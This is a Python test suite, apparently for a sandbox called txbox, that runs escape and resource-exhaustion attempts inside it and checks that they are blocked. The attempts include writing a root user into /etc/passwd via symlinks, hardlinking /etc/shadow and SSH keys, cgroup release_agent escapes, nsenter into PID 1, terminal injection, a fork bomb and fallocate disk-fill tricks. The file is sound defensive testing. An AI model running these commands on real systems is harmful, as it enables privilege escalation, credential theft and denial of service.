must_fail_sh sys-drop-caches "echo 3 > /proc/sys/vm/drop_caches"
must_fail_sh sys-overcommit "echo 1 > /proc/sys/vm/overcommit_memory"
must_fail_sh sys-aslr "echo 0 > /proc/sys/kernel/randomize_va_space"
must_fail_sh sys-hardlinks "echo 0 > /proc/sys/fs/protected_hardlinks"
must_fail_sh sys-panic "echo 0 > /proc/sys/kernel/panic"
must_fail_sh sys-userns "echo 0 > /proc/sys/user/max_user_namespaces"
must_fail sysctl-w sysctl -w kernel.hostname=$PWN
""")
    ctx.expect_blocked(res, ["sys-hostname", "sys-core-pattern", "sys-drop-caches"])
    for k in keys:
        check(read_text("/proc/sys/" + k) == before[k], "/proc/sys/%s changed on the host" % k)


@attack("proc-sysrq-trigger")
def proc_sysrq_trigger(ctx):
    sysrq = read_text("/proc/sys/kernel/sysrq")
    ws = ctx.workspace("sysrq")
    # 'h' (help) only: harmless even if it got through
    res = ctx.run(ws, r"""
must_fail_sh sysrq-trigger "echo h > /proc/sysrq-trigger"
must_fail_sh sysrq-python "python3 -c \"open('/proc/sysrq-trigger','w').write('h')\""
""")
    ctx.expect_blocked(res, ["sysrq-trigger", "sysrq-python"])
    check(read_text("/proc/sys/kernel/sysrq") == sysrq, "/proc/sys/kernel/sysrq changed")


@attack("sys-cgroup-write")
def sys_cgroup_write(ctx):
    """sysfs and cgroupfs: uevent_helper and release_agent are classic
    container escapes; moving oneself to the root cgroup escapes limits."""
    files = ["/sys/kernel/uevent_helper"]
    for d in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/cpu",
              "/sys/fs/cgroup/systemd", "/sys/fs/cgroup/unified"):
        for f in ("release_agent", "notify_on_release", "cgroup.procs", "cgroup.subtree_control"):
            if os.path.exists(os.path.join(d, f)):
                files.append(os.path.join(d, f))
    watch = [f for f in files if not f.endswith("cgroup.procs")]
    before = {f: read_text(f) for f in watch}
    ws = ctx.workspace("sysfs")
    body = "\n".join(
        'must_fail_sh write-%s "echo %s > %s"' % (f.strip("/").replace("/", "-"),
                                                  "$$" if f.endswith("cgroup.procs") else
                                                  ("+pids" if f.endswith("subtree_control") else
                                                   ("1" if f.endswith("notify_on_release") else "/tmp/$PWN")), f)
        for f in files)
    body += r"""
for d in /sys/fs/cgroup /sys/fs/cgroup/memory /sys/fs/cgroup/pids /sys/fs/cgroup/unified; do
  [ -d $d ] && must_fail mkdir-cgroup-$(basename $d) mkdir $d/$PWN
done
must_fail_sh sys-class-net "echo 1 > /sys/class/net/lo/tx_queue_len"
must_fail_sh sys-module-param "echo 1 > /sys/module/printk/parameters/time"
"""
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["write-sys-kernel-uevent_helper"] if os.path.exists(files[0]) else [])
    for f in watch:
        check(read_text(f) == before[f], "%s changed on the host" % f)


# ===========================================================================
# Mounts, namespaces, chroot, devices

@attack("mount")
def mount_attack(ctx):
    ws = ctx.workspace("mount")
    res = ctx.run(ws, r"""
mkdir -p mnt
"$BIN/mount" "$HOME" | grep -v PROBE-DONE
must_fail mount-cmd-tmpfs mount -t tmpfs none /mnt
must_fail mount-cmd-bind mount --bind / ./mnt
must_fail mount-cmd-remount mount -o remount,rw /
must_fail umount-cmd-proc umount /proc
must_fail umount-cmd-mask umount -l "$HOME/.ssh"
must_fail umount-cmd-ws umount -l "$PWD"
rmdir mnt
""")
    ctx.expect_blocked(res, ["mount-tmpfs-etc", "mount-bind-root", "remount-root-rw", "umount-secret-mask",
                             "fsopen", "open_tree-clone", "move_mount", "pivot_root", "mount_setattr-clear-ro",
                             "umount-cmd-ws"])


@attack("unshare")
def unshare_attack(ctx):
    ws = ctx.workspace("unshare")
    res = ctx.run(ws, r"""
"$BIN/ns" unshare | grep -v PROBE-DONE
must_fail unshare-U unshare -U true
must_fail unshare-Ur unshare -Ur true
must_fail unshare-m unshare -m true
must_fail unshare-n unshare -n true
must_fail unshare-pf unshare -p -f true
must_fail unshare-Urm-mount unshare -Urm sh -c 'mount -t tmpfs x /etc && touch /etc/$PWN'
""")
    ctx.expect_blocked(res, ["unshare-user", "unshare-mnt", "unshare-net", "unshare-U", "unshare-Ur"])


@attack("setns")
def setns_attack(ctx):
    ws = ctx.workspace("setns")
    res = ctx.run(ws, r"""
"$BIN/ns" setns | grep -v PROBE-DONE
must_fail nsenter-init nsenter -t 1 -m -u -n -p -i true
must_fail nsenter-init-user nsenter -t 1 -U true
""")
    ctx.expect_blocked(res, ["setns-self-mnt", "setns-self-user", "setns-1-mnt", "nsenter-init"])


@attack("userns-create")
def userns_create(ctx):
    ws = ctx.workspace("userns")
    res = ctx.run(ws, r'"$BIN/ns" userns')
    ctx.expect_blocked(res, ["clone-newuser", "clone3-newuser"])


@attack("chroot")
def chroot_attack(ctx):
    ws = ctx.workspace("chroot")
    res = ctx.run(ws, r"""
"$BIN/chroot" | grep -v PROBE-DONE
must_fail chroot-cmd chroot / /bin/true
must_fail chroot-cmd-ws chroot . /bin/true
""")
    ctx.expect_blocked(res, ["chroot-tmp", "chroot-jail", "chroot-cmd"])


@attack("mknod")
def mknod_attack(ctx):
    ws = ctx.workspace("mknod")
    res = ctx.run(ws, r"""
"$BIN/mknod" . /tmp /dev/shm | grep -v PROBE-DONE
must_fail mknod-cmd-blk mknod ./$PWN.blk b 8 0
must_fail mknod-cmd-chr mknod ./$PWN.chr c 1 1
must_fail mknod-python python3 -c "import os, stat; os.mknod('$PWN.py', stat.S_IFCHR | 0o666, os.makedev(1, 3))"
""")
    ctx.expect_blocked(res, ["mknod-blk-vda-.", "mknod-chr-mem-.", "mknod-cmd-blk"])


@attack("dev-write")
def dev_write(ctx):
    before = snapshot("/dev")
    disk = None
    for d in ("/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/xvda"):
        if os.path.exists(d):
            disk = d
            break
    disk_sha = None
    if ctx.is_root and disk:
        try:
            with open(disk, "rb") as f:
                disk_sha = f.read(1 << 16)
        except OSError as e:
            ctx.note("cannot read %s on the host (%s): its first sectors are not compared" % (disk, e.strerror))
    ws = ctx.workspace("dev")
    # open read-write without writing: an open that works is already the hole
    devs = ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg",
            "/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", "/dev/loop0", "/dev/loop-control",
            "/dev/zram0", "/dev/vsock", "/dev/kvm", "/dev/fuse", "/dev/btrfs-control", "/dev/userfaultfd",
            "/dev/hwrng", "/dev/cpu/0/msr", "/dev/vcs", "/dev/autofs", "/dev/net/tun", "/dev/mapper/control"]
    body = "echo \"INFO /dev inside: $(ls /dev | tr '\\n' ' ')\"\n"
    body += "\n".join('must_fail_sh open-rw-%s "exec 3<> %s"' % (d[5:].replace("/", "-"), d) for d in devs)
    body += r"""
must_fail_sh dev-create "echo pwn > /dev/$PWN"
must_fail_sh dev-shm-parent "mkdir /dev/$PWN.d"
for b in /dev/*; do [ -b "$b" ] && esc "block-device-visible: $b"; done
echo done-scan
"""
    res = ctx.run(ws, body)
    ctx.expect_blocked(res, ["open-rw-vda", "open-rw-mem", "open-rw-kmsg", "dev-create"])
    after = snapshot("/dev")
    # terminals' times change with use, pty nodes come and go with other
    # sessions: compare names, types, modes and device numbers
    keep = ("type", "mode", "uid", "gid", "rdev", "target")
    strip = lambda s: {k: {f: v.get(f) for f in keep} for k, v in s.items()
                       if not k.startswith(("pts/", "shm/")) and k != "." and isinstance(v, dict)}
    assert_same(strip(before), strip(after), "/dev")
    if disk_sha is not None:
        with open(disk, "rb") as f:
            check(f.read(1 << 16) == disk_sha, "the first 64 KiB of %s changed" % disk)


@attack("tiocsti")
def tiocsti(ctx):
    """txbox runs with a terminal as its controlling tty and stdin; the
    command must not be able to type into it."""
    ws = ctx.workspace("tiocsti")
    res = ctx.run(ws, r'"$BIN/tiocsti"', use_pty=True)
    # whatever got pushed into the terminal's input queue is readable on
    # the slave side (raw mode: no line discipline holding it back)
    os.set_blocking(res.pty_slave, False)
    try:
        injected = os.read(res.pty_slave, 4096)
    except (BlockingIOError, OSError):
        injected = b""
    ctx.expect_blocked(res, ["tiocsti-stdin", "tiocsti-stdout", "tiocsti-highbits"])
    check(not injected, "characters were injected into txbox's terminal: %r" % injected[:80])


# ===========================================================================
# What commit publishes

@attack("setuid-commit")
def setuid_commit(ctx):
    ws = ctx.workspace("setuid")
    res = ctx.run(ws, r"""
cp /bin/sh ./suid-sh && chmod 4755 ./suid-sh
cp "$BIN/hello" ./suid-hello && chmod 6755 ./suid-hello
cp "$BIN/hello" ./sgid-hello && chmod 2755 ./sgid-hello
chmod 4755 ./tool
mkdir -p bin && cp "$BIN/hello" bin/nested && chmod u+s,g+s bin/nested
ls -la suid-sh suid-hello sgid-hello tool bin/nested
echo "INFO run: $(./suid-hello)"
U=$(id -u)
case "$(./suid-hello)" in *"euid=$U "*) blk "setuid-exec-gains: no";; *) esc "setuid-exec-gains: $(./suid-hello)";; esac
must_fail setcap setcap cap_setuid,cap_sys_admin+ep ./suid-hello
must_fail setfattr-capability setfattr -n security.capability -v 0sAQAAAgAgAAAAAAAAAAAAAAAAAAA= ./sgid-hello
""")
    ctx.expect_blocked(res, ["setuid-exec-gains", "setcap", "setfattr-capability"])
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    problems = []
    present = []
    for rel in ("suid-sh", "suid-hello", "sgid-hello", "tool", "bin/nested"):
        p = os.path.join(ws, rel)
        if not os.path.lexists(p):
            continue
        present.append(rel)
        st = os.lstat(p)
        if st.st_mode & (stat.S_ISUID | stat.S_ISGID):
            problems.append("%s has mode %o after %s" % (rel, stat.S_IMODE(st.st_mode), res.outcome))
        try:
            if "security.capability" in os.listxattr(p, follow_symlinks=False):
                problems.append("%s carries security.capability" % rel)
        except OSError:
            pass
    if problems:
        raise Fail("; ".join(problems))
    if res.outcome == "committed":
        check(len(present) == 5, "committed, but files are missing: %s" % present)
    ctx.note("outcome %s; committed files without setuid/setgid bits: %s" % (res.outcome, ", ".join(present)))


@attack("setgid-dir-commit")
def setgid_dir_commit(ctx):
    ws = ctx.workspace("setgid-dir")
    os.makedirs(os.path.join(ws, "existing"))
    res = ctx.run(ws, r"""
mkdir sgid-dir && chmod 2775 sgid-dir && echo x > sgid-dir/f
chmod g+s existing
chmod g+s src
ls -ld sgid-dir existing src
""")
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    # the generic workspace audit reports any setgid/setuid directory published


@attack("xattr-commit")
def xattr_commit(ctx):
    ws = ctx.workspace("xattr")
    res = ctx.run(ws, r"""
echo data > xf
mkdir -p xd
must_fail setfattr-trusted-overlay setfattr -n trusted.overlay.opaque -v y xd
must_fail setfattr-trusted-overlay-redirect setfattr -n trusted.overlay.redirect -v /etc src
must_fail setfattr-trusted setfattr -n trusted.txsec -v 1 xf
must_fail setfattr-security-cap setfattr -n security.capability -v 0sAQAAAgAgAAAAAAAAAAAAAAAAAAA= xf
setfattr -n security.selinux -v system_u:object_r:shadow_t:s0 xf 2>/dev/null && echo "INFO security.selinux settable (no LSM enforcing here)"
# user.overlay.* is private to rootless overlays; elsewhere a plain user xattr,
# which commit must still not publish (it would steer the next overlay)
setfattr -n user.overlay.opaque -v y xd 2>&1 && echo "INFO set user.overlay.opaque on xd"
setfattr -n user.overlay.redirect -v /etc src 2>&1 && echo "INFO set user.overlay.redirect on src"
setfattr -n user.overlay.origin -v 0x00fb xf 2>&1 && echo "INFO set user.overlay.origin on xf"
setfattr -n user.txsec -v ok xf 2>&1 && echo "INFO ordinary user xattr set"
""")
    ctx.expect_blocked(res, ["setfattr-trusted-overlay", "setfattr-security-cap"])
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())


@attack("symlink-swap-dir")
def symlink_swap_dir(ctx):
    """Symlinks in the workspace swapped for directories (and back) inside the
    sandbox: commit must not follow the old symlink out of the workspace."""
    target = os.path.join(ctx.vis_root, "targets", "t1")
    rmtree_force(target)
    os.makedirs(target)
    with open(os.path.join(target, "keep.txt"), "w") as f:
        f.write("keep\n")
    ws = ctx.workspace("symswap", where="vis")
    os.symlink(target, os.path.join(ws, "link"))
    os.symlink("/etc", os.path.join(ws, "link2"))
    os.symlink(os.path.relpath(target, ws), os.path.join(ws, "rel"))
    os.makedirs(os.path.join(ws, "dir1", "sub"))
    with open(os.path.join(ws, "dir1", "sub", "f"), "w") as f:
        f.write("f\n")
    before_t = snapshot(target, recursive=True, content=True)
    before_etc = snapshot("/etc", content=True)
    res = ctx.run(ws, r"""
T='%s'
rm link && mkdir link && echo pwn > "link/$PWN" && mkdir link/keep.txt
rm link2 && mkdir link2 && echo pwn > link2/passwd && echo pwn > "link2/$PWN"
rm rel && mkdir -p rel/deeper && echo pwn > "rel/deeper/$PWN"
echo mod > dir1/sub/f && mv dir1 dir1.old && ln -s "$T" dir1
mkdir -p x/y && echo 1 > x/y/f && mv x x.old && ln -s /etc x
ls -la . link link2
""" % target)
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    assert_same(before_t, snapshot(target, recursive=True, content=True), "the symlink target %s" % target)
    assert_same(before_etc, snapshot("/etc", content=True), "/etc")
    if res.outcome == "committed":
        check(os.path.isdir(os.path.join(ws, "link")) and not os.path.islink(os.path.join(ws, "link")),
              "committed, but ws/link is not the new directory")
        check(os.path.exists(os.path.join(ws, "link", ctx.pwn)), "committed, but ws/link/%s is missing" % ctx.pwn)
        check(os.path.islink(os.path.join(ws, "dir1")), "committed, but ws/dir1 is not the new symlink")


@attack("symlink-etc-write")
def symlink_etc_write(ctx):
    before = snapshot("/etc", content=True)
    ws = ctx.workspace("symetc")
    res = ctx.run(ws, r"""
ln -s /etc x
must_fail_sh write-through-dir-link "echo '$PWN:x:0:0::/:/bin/sh' >> x/passwd"
must_fail_sh create-through-dir-link "echo pwn > x/$PWN"
ln -s /etc/passwd p
must_fail_sh write-through-file-link "echo pwn >> p"
ln -s ../../../../../../../../etc/hosts rel
must_fail_sh write-through-relative-link "echo pwn >> rel"
""")
    ctx.expect_blocked(res, ["write-through-dir-link", "create-through-dir-link", "write-through-file-link"])
    assert_same(before, snapshot("/etc", content=True), "/etc")


@attack("symlink-root-tmp")
def symlink_root_tmp(ctx):
    """`ln -s / root && echo x > root/tmp/pwned`: the write lands in the
    sandbox's private /tmp; the committed symlink must not make it real."""
    ws = ctx.workspace("symroot")
    res = ctx.run(ws, r"""
ln -s / root && echo x > root/tmp/$PWN && echo "INFO wrote root/tmp/$PWN (private /tmp)"
ln -s / root2 && echo x > root2/var/tmp/$PWN
ln -s /dev/shm shm && echo x > shm/$PWN
""")
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    for p in ("/tmp/", "/var/tmp/", "/dev/shm/"):
        check(not os.path.lexists(p + ctx.pwn), "%s%s exists on the host" % (p, ctx.pwn))
    if res.outcome == "committed":
        r = os.path.join(ws, "root")
        check(os.path.islink(r) and os.readlink(r) == "/", "ws/root is not the plain symlink to /")


@attack("hardlink-shadow")
def hardlink_shadow(ctx):
    st0 = os.stat("/etc/shadow")
    sha0 = file_sha("/etc/shadow") if ctx.is_root else None
    if not ctx.is_root:
        ctx.note("/etc/shadow is unreadable as a user: its inode, links, size and mtime are compared, not its content")
    ws = ctx.workspace("hardlink")
    res = ctx.run(ws, r"""
must_fail ln-shadow ln /etc/shadow ./shadow-link
must_fail ln-passwd ln /etc/passwd ./passwd-link
must_fail ln-python python3 -c "import os; os.link('/etc/shadow', 'shadow-link2')"
must_fail ln-proc1root ln /proc/1/root/etc/shadow ./shadow-link3
must_fail ln-secret ln "$HOME/.ssh/id_rsa" ./key-link
ln -s /etc/shadow sl
must_fail ln-follow ln -L sl ./shadow-link4
must_fail_sh shadow-write "echo pwn >> /etc/shadow"
""")
    ctx.expect_blocked(res, ["ln-shadow", "ln-passwd", "ln-python", "ln-follow"])
    st1 = os.stat("/etc/shadow")
    for f in ("st_ino", "st_nlink", "st_size", "st_mtime_ns", "st_mode", "st_uid"):
        check(getattr(st0, f) == getattr(st1, f), "/etc/shadow %s changed: %s -> %s" % (
            f, getattr(st0, f), getattr(st1, f)))
    if sha0:
        check(file_sha("/etc/shadow") == sha0, "/etc/shadow content changed")


@attack("fifo-left")
def fifo_left(ctx):
    ws = ctx.workspace("fifo")
    res = ctx.run(ws, r"""
mkfifo ./fifo1 && mkfifo src/fifo2 && echo "INFO fifos created"
""", timeout=60)
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    if res.outcome == "rolled_back":
        check(res.get("error"), "rolled back without a clear reason: %s" % res.describe())
    for rel in ("fifo1", "src/fifo2"):
        p = os.path.join(ws, rel)
        if os.path.lexists(p):
            check(stat.S_ISFIFO(os.lstat(p).st_mode), "%s is published as something else than a fifo" % rel)
    ctx.note("outcome %s (%s)" % (res.outcome, res.get("error") or res.get("rollback_reason")))


@attack("socket-left")
def socket_left(ctx):
    ws = ctx.workspace("socket")
    res = ctx.run(ws, r"""
"$BIN/sockleft" ./sock1 | grep -v PROBE-DONE
"$BIN/sockleft" src/sock2
""")
    check(res.outcome in ("committed", "rolled_back"), "unexpected outcome: %s" % res.describe())
    for rel in ("sock1", "src/sock2"):
        p = os.path.join(ws, rel)
        check(not (os.path.lexists(p) and stat.S_ISSOCK(os.lstat(p).st_mode)), "socket %s published" % rel)
    if res.outcome == "rolled_back":
        reason = "%s %s" % (res.get("rollback_reason"), res.get("error") or "")
        check(res.get("error") and "sock" in (res.get("error") or "").lower(),
              "rolled back, but the reason does not name the socket: %s" % reason)
    ctx.note("outcome %s (%s)" % (res.outcome, res.get("error") or res.get("rollback_reason")))


# ===========================================================================
# Resources

def _count_procs(token):
    n = 0
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % d, "rb") as f:
                if token in f.read():
                    n += 1
        except OSError:
            pass
    return n


def _user_tasks(uid):
    n = 0
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        st = read_text("/proc/%s/status" % d, "")
        u = t = None
        for line in st.splitlines():
            if line.startswith("Uid:"):
                u = int(line.split()[1])
            elif line.startswith("Threads:"):
                t = int(line.split()[1])
        if u == uid:
            n += t or 1
    return n


@attack("fork-bomb", heavy=True)
def fork_bomb(ctx):
    ws = ctx.workspace("forkbomb")
    script_token = os.path.join(ctx.scripts, "fork-bomb.sh").encode()
    peak = [0]
    stop = [False]

    def sample():
        while not stop[0]:
            peak[0] = max(peak[0], _count_procs(script_token))
            time.sleep(0.05)
    th = threading.Thread(target=sample, daemon=True)
    # Safety net so a sandbox without a pids limit cannot take the machine
    # down: RLIMIT_NPROC a few hundred tasks above what this uid runs now.
    # (The sandbox's own limit is what is checked: the peak must stay <= 64.)
    cap = _user_tasks(ctx.uid) + 400

    def pre():
        resource.setrlimit(resource.RLIMIT_NPROC, (cap, cap))
    th.start()
    ctx.allow_error = True  # containment is judged first, the outcome after
    try:
        res = ctx.run(ws, r"""
# the classic shape, kept alive: every caller waits for its pipeline, so
# the tree only grows and a missing pids limit shows in the count
bomb() { bomb | bomb & wait; }
bomb
sleep 30
""", opts=["--pids", "64", "--timeout", "10"], timeout=60, preexec=pre)
    finally:
        stop[0] = True
        th.join(2)
    check(res.elapsed < 20, "the fork bomb ran %.1fs under --timeout 10" % res.elapsed)
    check(peak[0] <= 64 + 2, "--pids 64 not enforced: %d processes of the bomb at once (mechanism %s; the "
          "harness's RLIMIT_NPROC safety net at %d tasks for uid %d was what stopped it)"
          % (peak[0], (res.get("limits") or {}).get("mechanism"), cap, ctx.uid))
    check(res.outcome == "rolled_back", "contained (peak %d processes, %.1fs) but not rolled back: %s"
          % (peak[0], res.elapsed, res.describe()))
    ctx.note("peak %d processes, %s/%s, %.1fs, mechanism %s" % (
        peak[0], res.get("rollback_reason"), res.get("limit"), res.elapsed, (res.get("limits") or {}).get("mechanism")))


@attack("memory-bomb", heavy=True)
def memory_bomb(ctx):
    ws = ctx.workspace("membomb")
    ctx.allow_error = True
    res = ctx.run(ws, r'"$BIN/membomb" 2048', opts=["--memory", "64M", "--timeout", "60"], timeout=120)
    mech = (res.get("limits") or {}).get("mechanism")
    check("SURVIVED" not in res.stdout, "allocated and touched 2 GiB under --memory 64M (mechanism %s)" % mech)
    failed = [l for l in res.stdout.splitlines() if l.startswith("MALLOC-FAILED")]
    if failed and res.outcome != "rolled_back":
        raise Fail("contained by an address-space rlimit (%s) but neither killed nor reported: outcome %s, "
                   "rollback_reason %s, limit %s (mechanism %s)"
                   % (failed[0].lower(), res.outcome, res.get("rollback_reason"), res.get("limit"), mech))
    check(res.outcome == "rolled_back", "not rolled back: %s" % res.describe())
    check(res.get("rollback_reason") == "limit" and res.get("limit") == "memory",
          "rolled back, but not reported as the memory limit: %s" % res.describe())


@attack("tmpfs-fill", heavy=True)
def tmpfs_fill(ctx):
    """The private /tmp is RAM: filling it must count against --memory."""
    ws = ctx.workspace("tmpfsfill")
    res = ctx.run(ws, r"""
dd if=/dev/zero of=/tmp/fill bs=1M count=512 2>&1 | tail -1
echo "INFO dd status $?"
echo "FILLED $(du -m /tmp/fill | cut -f1) MiB"
""", opts=["--memory", "64M", "--timeout", "60"], timeout=120)
    filled = [l for l in res.stdout.splitlines() if l.startswith("FILLED")]
    mib = int(filled[0].split()[1]) if filled else 0
    check(mib < 256, "wrote %d MiB into the sandbox's private /tmp (RAM) under --memory 64M (outcome %s, "
          "mechanism %s)" % (mib, res.outcome, (res.get("limits") or {}).get("mechanism")))


@attack("disk-fill", heavy=True)
def disk_fill(ctx):
    ws = ctx.workspace("diskfill")
    sv = os.statvfs(ws)
    free0 = sv.f_bavail * sv.f_frsize
    ctx.allow_error = True
    res = ctx.run(ws, r"""
dd if=/dev/zero of=big bs=1M count=100 2>&1 | tail -1
echo "INFO dd status $?"
""", opts=["--disk", "10M", "--timeout", "60"], timeout=120)
    sv = os.statvfs(ws)
    free1 = sv.f_bavail * sv.f_frsize
    big = os.path.join(ws, "big")
    size = os.path.getsize(big) if os.path.exists(big) else 0
    drop = (free0 - free1) / MIB
    check(free1 > 0, "the host file system is full")
    check(drop < 150, "the host file system lost %.0f MiB for a 100 MiB write" % drop)
    check(res.outcome != "error", "the write was stopped (%s/%s), but txbox then failed: %s"
          % (res.get("rollback_reason"), res.get("limit"), res.get("error")))
    if res.outcome == "rolled_back" and res.get("limit") == "disk":
        ctx.note("rolled back with limit disk")
    else:
        ctx.note("--disk 10M NOT enforced: outcome %s, %d MiB committed into the workspace (%s); the host "
                 "disk was not filled (free space changed by %.0f MiB)"
                 % (res.outcome, size // MIB, res.get("rollback_reason"), drop))
    if os.path.exists(big):
        os.unlink(big)


@attack("disk-fill-many-files", heavy=True)
def disk_fill_many_files(ctx):
    """--disk 10M against 20 files of 8 MiB each (160 MiB): a per-file cap
    (RLIMIT_FSIZE) does not bound the layer."""
    ws = ctx.workspace("diskfill-many")
    sv = os.statvfs(ws)
    free0 = sv.f_bavail * sv.f_frsize
    ctx.allow_error = True
    res = ctx.run(ws, r"""
i=0; while [ $i -lt 20 ]; do dd if=/dev/zero of=part$i bs=1M count=8 2>/dev/null || echo "INFO dd $i failed"; i=$((i+1)); done
echo "INFO wrote $(du -sm . | cut -f1) MiB"
""", opts=["--disk", "10M", "--timeout", "60"], timeout=120)
    sv = os.statvfs(ws)
    drop = (free0 - sv.f_bavail * sv.f_frsize) / MIB
    size = sum(os.path.getsize(os.path.join(ws, n)) for n in os.listdir(ws) if n.startswith("part"))
    check(sv.f_bavail > 0, "the host file system is full")
    check(drop < 250, "the host file system lost %.0f MiB for a 160 MiB write" % drop)
    check(res.outcome != "error", "txbox failed: %s" % res.get("error"))
    if res.outcome == "rolled_back" and res.get("limit") == "disk":
        ctx.note("rolled back with limit disk")
    else:
        ctx.note("--disk 10M NOT enforced: outcome %s, %d MiB in 20 files committed into the workspace; the "
                 "host disk was not filled (free space changed by %.0f MiB)" % (res.outcome, size // MIB, drop))


class FreeSpaceLow:
    """Samples the free space of the file system holding PATH every 5 ms
    while the block runs: .dip_mib is how far below the start it fell."""

    def __init__(self, path):
        self.path = path
        self.stop = False

    def _free(self):
        v = os.statvfs(self.path)
        return v.f_bavail * v.f_frsize

    def _sample(self):
        while not self.stop:
            self.low = min(self.low, self._free())
            time.sleep(0.005)

    def __enter__(self):
        self.start = self.low = self._free()
        self.th = threading.Thread(target=self._sample, daemon=True)
        self.th.start()
        return self

    def __exit__(self, *exc):
        self.stop = True
        self.th.join(2)
        self.dip_mib = (self.start - self.low) / MIB
        return False


@attack("disk-fill-fallocate", heavy=True)
def disk_fill_fallocate(ctx):
    """fallocate() reserves blocks at ~100 GiB/s, far faster than any poll
    of the layer: fallocate(1) of 400 files of 9 MiB (3.6 GiB) with --disk
    10M. The host's lowest free space during the run shows the overshoot."""
    ws = ctx.workspace("diskfill-falloc")
    if not which("fallocate"):
        raise Skip("no fallocate(1)")
    ctx.allow_error = True
    with FreeSpaceLow(ws) as fs:
        res = ctx.run(ws, r"""
i=0; while [ $i -lt 400 ]; do fallocate -l 9M f$i || break; i=$((i+1)); done
echo "INFO allocated $i files"
""", opts=["--disk", "10M", "--timeout", "60"], timeout=120)
    check(fs.dip_mib < 256, "--disk 10M overshot by %.0f MiB before txbox stopped the command" % fs.dip_mib)
    check(res.outcome != "error", "txbox failed: %s" % res.get("error"))
    ctx.note("outcome %s/%s; the host's free space dipped by at most %.0f MiB during the run"
             % (res.outcome, res.get("limit"), fs.dip_mib))


# Reserves LEN bytes past the end of a new file in one fallocate() call
# (FALLOC_FL_KEEP_SIZE): st_size stays 0, so RLIMIT_FSIZE never applies.
KEEP_SIZE_FILL = r"""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
fd = os.open("big", os.O_CREAT | os.O_RDWR, 0o600)
r = libc.fallocate(fd, 1, 0, int(sys.argv[1]))
print("INFO fallocate(KEEP_SIZE) ->", r, errno.errorcode.get(ctypes.get_errno(), ""), os.fstat(fd).st_blocks * 512)
"""


@attack("disk-fill-keep-size", heavy=True)
def disk_fill_keep_size(ctx):
    """One fallocate(FALLOC_FL_KEEP_SIZE) call past EOF: RLIMIT_FSIZE does
    not apply (the size does not change) and the call is over before any
    poll, so with --disk 10M it could fill the host's disk at once. Asks
    for a quarter of the free space (at most 4 GiB)."""
    ws = ctx.workspace("diskfill-keepsize")
    sv = os.statvfs(ws)
    want = min(4 << 30, sv.f_bavail * sv.f_frsize // 4)
    if want < 512 * MIB:
        raise Skip("less than 2 GiB free")
    ctx.allow_error = True
    with FreeSpaceLow(ws) as fs:
        res = ctx.run(ws, "python3 -c '%s' %d" % (KEEP_SIZE_FILL.replace("'", "'\\''"), want),
                      opts=["--disk", "10M", "--timeout", "60"], timeout=120)
    check(fs.dip_mib < 256, "--disk 10M: one fallocate(KEEP_SIZE) took %.0f MiB of the host's disk"
          % fs.dip_mib)
    check(res.outcome != "error", "txbox failed: %s" % res.get("error"))
    ctx.note("outcome %s; dip %.0f MiB; %s" % (res.outcome, fs.dip_mib, res.get("stdout", "").strip()))


# Writes up to 400 files of 9 MiB of zeros as fast as Python can: the
# fastest way left to fill the disk once fallocate is refused.
WRITE_BURST = r"""
import os
buf = bytes(9 << 20)
for i in range(400):
    fd = os.open("w%d" % i, os.O_CREAT | os.O_WRONLY, 0o600)
    os.write(fd, buf)
    os.close(fd)
"""


@attack("disk-fill-write-burst", heavy=True)
def disk_fill_write_burst(ctx):
    """Page-cache writes at memory speed (GiB/s): with --disk 10M the check
    must come often enough that the overshoot stays small: about 600 MiB/s
    here, so a check every 100 ms let 60-140 MiB through, every 10 ms
    about 15-40 MiB (10 MiB of it allowed)."""
    ws = ctx.workspace("diskfill-burst")
    ctx.allow_error = True
    with FreeSpaceLow(ws) as fs:
        res = ctx.run(ws, "python3 -c '%s'" % WRITE_BURST.replace("'", "'\\''"),
                      opts=["--disk", "10M", "--timeout", "60"], timeout=120)
    check(fs.dip_mib < 64, "--disk 10M overshot by %.0f MiB (page-cache writes)" % fs.dip_mib)
    check(res.outcome == "rolled_back" and res.get("limit") == "disk",
          "outcome %s, limit %s" % (res.outcome, res.get("limit")))
    ctx.note("dip %.0f MiB" % fs.dip_mib)


@attack("cpu-spin", heavy=True)
def cpu_spin(ctx):
    ws = ctx.workspace("cpuspin")
    ctx.allow_error = True
    res = ctx.run(ws, "while :; do :; done\n", opts=["--cpu", "1", "--timeout", "30"], timeout=60)
    check(res.elapsed < 10, "a 1 s CPU limit took %.1fs of wall time" % res.elapsed)
    check(res.outcome == "rolled_back", "stopped after %.1fs (%s/%s, signal %s) but not rolled back: %s"
          % (res.elapsed, res.get("rollback_reason"), res.get("limit"), res.get("signal"), res.describe()))
    check(res.get("rollback_reason") == "limit" and res.get("limit") == "cpu",
          "not reported as the cpu limit: %s" % res.describe())


def _flood(ctx, stream):
    base_ws = ctx.workspace("flood-base-" + stream)
    base = ctx.run(base_ws, "true\n")
    ws = ctx.workspace("flood-" + stream)
    redir = "" if stream == "stdout" else " >&2"
    res = ctx.run(ws, "head -c 104857600 /dev/zero | tr '\\0' 'A'%s\n" % redir, timeout=120)
    text = res.get(stream) or ""
    trunc = res.get(stream + "_truncated")
    check(len(text.encode()) <= (1 << 20) + 4096, "%s captured %d bytes (> 1 MiB)" % (stream, len(text)))
    check(trunc is True, "%s not flagged truncated (%s_truncated=%r)" % (stream, stream, trunc))
    check(len(res.raw_out) <= 8 << 20, "txbox printed %d bytes of JSON" % len(res.raw_out))
